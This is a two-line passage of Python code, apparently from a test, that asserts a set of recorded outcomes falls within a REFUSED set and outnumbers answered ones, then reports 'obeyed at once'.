    assert last and set(last) <= REFUSED and max(last.values()) > answered, last
    told("obeyed at once")
